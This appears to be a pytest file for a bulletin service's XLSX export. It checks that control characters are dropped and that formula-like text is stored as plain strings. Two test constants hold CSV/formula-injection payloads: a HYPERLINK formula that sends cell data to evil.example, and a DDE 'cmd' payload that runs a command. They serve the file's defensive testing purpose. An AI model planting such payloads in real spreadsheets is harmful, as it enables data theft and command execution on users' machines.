"""A bulletin's XLSX with hostile text: control characters dropped, formulas kept as text."""

from __future__ import annotations

from datetime import date
from io import BytesIO

from openpyxl import load_workbook

from server.bulletins.models import Bulletin
from server.db import db
from tests.bulletins.test_published_bulletins import (
    desk,  # noqa: F401  (the office's client)
)

FORMULA_NAME = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")'
UNIT_NAME = "=cmd|' /C calc'!A0"


def workbook(desk, bulletin_id: int):  # type: ignore[no-untyped-def]  # noqa: F811
    response = desk.client.get(f"/api/v1/bulletins/{bulletin_id}?format=xlsx")
    assert response.status_code == 200, response.get_json()
    return load_workbook(BytesIO(response.data))


def all_cells(book) -> list:  # type: ignore[no-untyped-def, type-arg]
    return [c for ws in book.worksheets for row in ws.iter_rows() for c in row if c.value]


def test_a_draft_with_a_control_character_gives_its_xlsx(desk) -> None:  # type: ignore[no-untyped-def]  # noqa: F811
    draft = desk.draft()
    db.session.get(Bulletin, draft["id"]).problems = "部分项目\x0b进度滞后\x01"
    db.session.commit()
    sheet = workbook(desk, draft["id"])["通报正文"]
    assert sheet.cell(2, 2).value == "部分项目\n进度滞后"


def test_a_formula_paragraph_is_written_as_text(desk) -> None:  # type: ignore[no-untyped-def]  # noqa: F811
    draft = desk.draft(situation="=1+1")
    cell = workbook(desk, draft["id"])["通报正文"].cell(1, 2)
    assert (cell.value, cell.data_type, cell.quotePrefix) == ("=1+1", "s", True)


def test_lagging_projects_named_by_formulas_are_written_as_text(  # type: ignore[no-untyped-def]
    desk,  # noqa: F811
    make_project,
    make_unit,
) -> None:
    make_project(
        name=FORMULA_NAME,
        unit=make_unit(UNIT_NAME),
        progress=1,
        report_date=date(2023, 7, 10),
        lag_reason="-资金未到位",
    )
    book = workbook(desk, desk.draft()["id"])
    found = all_cells(book)
    assert not [f"{c.parent.title}!{c.coordinate}" for c in found if c.data_type == "f"]
    texts = {c.value: c.data_type for c in found}
    assert (texts[FORMULA_NAME], texts[UNIT_NAME], texts["-资金未到位"]) == ("s", "s", "s")
